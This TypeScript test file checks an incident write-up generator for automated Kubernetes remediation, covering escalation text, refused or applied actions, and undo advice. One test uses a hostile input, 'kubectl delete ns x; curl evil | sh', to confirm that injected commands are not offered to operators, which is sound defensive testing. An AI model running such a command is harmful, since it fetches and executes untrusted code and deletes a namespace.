import { describe, expect, test } from "vitest";
import { type WriteUpInput, writeUp } from "../../src/incident/write-up.ts";
import { card, pageText } from "../../src/incident/write-up-card.ts";
import { causeFrom, evidenceOf, incidentWith, logOf, plan, workload } from "./night.ts";

const log = logOf("2026-03-01T02:11:01.1Z fatal: cannot allocate memory\n");

const escalated = (change: Partial<WriteUpInput["incident"]>, evidence = [log]): WriteUpInput => ({
  incident: incidentWith({ evidence: evidence.map(({ id }) => id), diagnosis: causeFrom([log]), plan, ...change }),
  status: "escalated",
  evidence,
  links: { page: "https://nightshift.example/incidents/inc-1" },
  notes: [],
});

const applied = {
  key: "k",
  verb: "undo-rollout",
  target: { ...workload, kind: "StatefulSet" },
  at: "2026-03-01T02:20:00.000Z",
  kind: "applied",
  reason: null,
  message: "",
} as const;

describe("a reason that ends with the command that saves", () => {
  const saving = "kubectl delete pod kv-1 -n rx-b";
  const escalation = `undo-rollout on StatefulSet/kv in rx-b was done, but the controller does not replace a pod that never became ready, so it is not better (${"ready: 1 of 2; ".repeat(20)}). To let it: ${saving}`;

  test("tells that command whole, however long the reason is", () => {
    const input = escalated({ escalation, outcomes: [applied] });

    for (const text of [writeUp(input), card(input).text, pageText(input).text])
      expect(text.split("\n")).toContain(saving);
  });

  test("is not followed by the advice to take the change back", () => {
    expect(writeUp(escalated({ escalation, outcomes: [applied] }))).not.toContain("take it back with its undo");
    expect(writeUp(escalated({ escalation: "It did not help.", outcomes: [applied] }))).toContain(
      "take it back with its undo",
    );
  });

  test("offers nothing for typing that is no plain kubectl command", () => {
    const text = writeUp(escalated({ escalation: `${"x ".repeat(200)}: kubectl delete ns x; curl evil | sh` }));

    expect(text).not.toContain("kubectl delete ns");
  });
});

test("the unread log of another workload's pod is no gap in what is known of the subject", () => {
  const unread = (pod: string) =>
    evidenceOf(
      { ask: "logs", namespace: "cache", pod, container: "app", previous: true, lines: 500 },
      { kind: "could-not-ask", reason: "failed", message: "no" },
    );
  const text = writeUp(escalated({}, [log, unread("billing-7d9f8b6c5-x2x4z"), unread("cache-warmer-7d9f8b6c5-x2x4z")]));

  expect(text).toContain("cache-warmer-7d9f8b6c5-x2x4z");
  expect(text).not.toContain("billing-7d9f8b6c5-x2x4z");
});

test("of what is gone the log that a store kept is quoted, and asked for again there", () => {
  const whose = { namespace: "cache", pod: "import-7", container: "app", previous: false };
  const gone = evidenceOf({ ask: "get", kind: "StatefulSet", namespace: "cache", name: "import" }, { kind: "no-data" });
  const text = "2026-03-01T02:11:01.1Z started\n2026-03-01T02:11:02.1Z FATAL checksum mismatch\n";
  const kept = {
    ...evidenceOf(
      { ask: "kept-logs", ...whose, from: null, to: null },
      { kind: "found", body: { kind: "log", ...whose, text, truncated: false, from: "loki" } },
    ),
    command: "logcli query '{pod=\"import-7\"}'",
  };
  const told = writeUp(
    escalated({ diagnosis: { kind: "unknown", missing: [], candidates: [] }, plan: null }, [gone, kept]),
  );

  expect(told).toContain("loki: 02:11:02 FATAL checksum mismatch");
  expect(told).toContain(kept.command);
  expect(told).not.toContain("kubectl get statefulset import");
});

test("what was refused because something moved is not told of the plan that was made anew", () => {
  const verb = plan.actions[0]?.verb ?? "";
  const refused = { ...applied, verb, kind: "refused", reason: "changed", message: "it was changed since" } as const;
  const again = escalated({ outcomes: [refused], askedAgain: refused.message });

  expect(writeUp(again)).toContain("**Asked again:**");
  expect(writeUp(again)).toContain("**Proposed:** ");
  const later = { ...refused, at: new Date(Date.parse(refused.at) + 60_000).toISOString() };
  const decision = { kind: "approved", planHash: "p", by: "ann", at: later.at } as const;
  const asked = { askedAgain: refused.message, decision };
  expect(writeUp(escalated({ ...asked, outcomes: [refused] }))).toContain("**Proposed:** ");
  expect(writeUp(escalated({ ...asked, outcomes: [refused, later] }))).toContain("**Not done (refused):** ");
  expect(writeUp(escalated({ outcomes: [refused] }))).toContain("**Not done (refused):** ");
});

test.each([
  ["It was not undone: Deployment/web in shop is gone.", "take over as said under Next", false],
  [
    "It was not undone: Deployment/web in shop was changed since. Look first: this puts back what was there before our change. To take it back: kubectl rollout undo deployment/web -n shop --to-revision=2",
    "look at the object before you type anything",
    true,
  ],
])("of a change that was not taken back (%s) the page says: %s", (why, now, offered) => {
  const verdict = { kind: "worse" as const, at: applied.at, checks: [] };
  const told = writeUp(escalated({ outcomes: [applied], verdict, escalation: `It did not help. ${why}` }));
  expect(told.replace(/\s+/g, " ")).toContain(now);
  expect(told).not.toContain("take it back with its undo command");
  expect(/^- undo/m.test(told)).toBe(offered);
});
